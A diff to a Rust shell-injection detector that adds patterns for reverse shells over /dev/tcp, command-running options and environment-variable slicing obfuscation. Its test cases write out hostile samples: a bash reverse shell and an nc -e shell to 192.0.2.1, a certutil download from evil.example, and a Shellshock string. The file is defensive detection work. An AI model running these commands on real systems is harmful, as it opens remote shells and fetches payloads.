@@ -22,7 +22,7 @@ const fn phrase(text: &'static str, then: &'static str, what: &'static str, stre
     Phrase { text, then, what, strength }
 }
 
-static PHRASES: [Phrase; 34] = [
+static PHRASES: [Phrase; 46] = [
     phrase("() { :", "}", "function that runs on import (Shellshock)", Strength::Certain),
     phrase("() { _;", "}", "function that runs on import (Shellshock)", Strength::Certain),
     phrase("() {:;", "}", "function that runs on import (Shellshock)", Strength::Certain),
@@ -57,6 +57,19 @@ static PHRASES: [Phrase; 34] = [
     phrase("--checkpoint-action=exec=", "", "option that runs a command", Strength::Strong),
     phrase("-oproxycommand=", "", "option that runs a command", Strength::Strong),
     phrase("-wrapper sh,", "", "compiler that runs a command", Strength::Strong),
+    phrase("--gpu-launcher=", "", "option that runs a command", Strength::Strong),
+    phrase("sh</dev/tcp/", "", "shell over a connection", Strength::Certain),
+    phrase("sh </dev/tcp/", "", "shell over a connection", Strength::Certain),
+    phrase("if [ $(", "then sleep", "answer told by the time it takes", Strength::Strong),
+    // One character of a variable that every system has stands for a slash or a blank.
+    phrase("${home:0:1}", "", "character cut out of a variable", Strength::Strong),
+    phrase("${path:0:1}", "", "character cut out of a variable", Strength::Strong),
+    phrase("${pwd:0:1}", "", "character cut out of a variable", Strength::Strong),
+    phrase("${ls_colors:", ":1}", "character cut out of a variable", Strength::Strong),
+    phrase("%programfiles:~", "%", "character cut out of a variable", Strength::Strong),
+    phrase("%commonprogramfiles:~", "%", "character cut out of a variable", Strength::Strong),
+    phrase("%homepath:~", "%", "character cut out of a variable", Strength::Strong),
+    phrase("%comspec:~", "%", "character cut out of a variable", Strength::Strong),
 ];
 
 const TEXTS: [&str; PHRASES.len()] = {
@@ -86,11 +99,14 @@ impl Detector for ShellPhrase {
                 "() { :;}; /bin/sh -c id",
                 "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
                 "nc -e /bin/sh 192.0.2.1 4444",
+                "cat ${HOME:0:1}etc${HOME:0:1}hosts",
+                "ping%PROGRAMFILES:~10,-5%192.0.2.1",
                 "hello, powershell -enc SQBFAFgA",
                 "certutil -urlcache -f http://evil.example/a.exe a.exe",
             ],
             passed: &[
                 "how do I test /dev/tcp/host/port?",
+                "first=${name:0:1}",
                 "nc -l 8080 waits for a connection",
                 "python -c 'print(1)'",
                 "bash -i starts an interactive shell",
